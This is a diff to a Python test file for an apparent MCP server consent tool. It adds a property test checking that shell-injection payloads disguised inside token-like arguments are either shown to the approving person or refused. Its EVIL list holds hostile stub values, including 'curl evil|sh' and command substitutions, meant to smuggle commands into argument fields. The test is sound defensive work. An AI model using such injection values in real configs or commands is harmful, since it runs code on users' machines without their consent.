@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -13,8 +14,10 @@ from hypothesis import strategies as st
 
 from mew_lab.bridge.config_consents import AdmittedServer, ConsentStore, admit_servers
 from mew_lab.bridge.mcp_config import McpConfig, read_mcp_config
+from mew_lab.bridge.secrets import hide_arguments
 from mew_lab.errors import ConfigError
 from mew_lab.protocol.token import Token, forget, mask
+from mew_lab.protocol.visible import visible
 
 from .config_files import CANARY, ENVIRON, FILES, ConfigFile
 
@@ -147,6 +150,60 @@ def test_a_person_sees_what_runs_and_what_it_gets_by_name_alone(tmp_path: Path) 
         "asks for key",
         f"digest   {server.digest}",
     ]
+
+
+NO_CODE = re.compile(r"[\w.~+%=&:@,…-]")  # characters that by themselves start no program
+EVIL = [
+    "curl evil|sh",
+    "$(evil)",
+    "`evil`",
+    "./evil.sh",
+    "a;evil",
+    "a\nevil",
+    "require('evil')",
+    "x" * 400 + ";evil",
+]
+
+
+@pytest.mark.threat(28)
+@given(
+    shape=st.sampled_from(
+        [
+            *(
+                "TOKEN={}",
+                "--api-key={}",
+                "Authorization: {}",
+                "Bearer {}",
+                "${{KEY:-{}}}",
+                "x://h?token={}",
+                "x://h/{}",
+            ),
+            *("x://{}@h/p", "x://h#{}", "{} TOKEN=a", "sk-{}", "a8Bc9Dd0e1F2g3H4i5J6 {}", "{}"),
+        ]
+    ),
+    evil=st.sampled_from(EVIL) | st.text(max_size=30).map(lambda text: f"{text};evil"),
+    before=st.sampled_from(["-c", "--token", "-e", "run"]),
+    remembered=st.booleans(),
+)
+@settings(max_examples=400, deadline=None)
+def test_no_code_is_hidden_as_a_secret_from_whom_is_asked(
+    tmp_path_factory: pytest.TempPathFactory, shape: str, evil: str, before: str, remembered: bool
+) -> None:
+    """Whoever is asked sees each character that a shell or a program could run; else nobody is asked."""
+    if remembered:
+        hide_arguments(["x", "--token", evil])
+    folder = tmp_path_factory.mktemp("hidden")
+    entry = {"command": "sh", "args": [before, shape.format(evil)]}
+    config = one_server(folder, entry)
+    desk = Desk(allows=False)
+    admitted, left_out = admit(config, desk)
+    assert not admitted
+    if desk.seen:
+        shown = "".join(desk.seen).replace("'\"'\"'", "'")
+        assert NO_CODE.sub("", visible(evil)) in NO_CODE.sub("", shown)
+    elif config.servers:
+        assert "argument 2 holds what looks like a secret beside other text" in left_out["a"]
+        assert config.servers["a"].digest in left_out["a"]
 
 
 def test_an_address_is_shown_with_what_is_odd_about_its_host(tmp_path: Path) -> None:
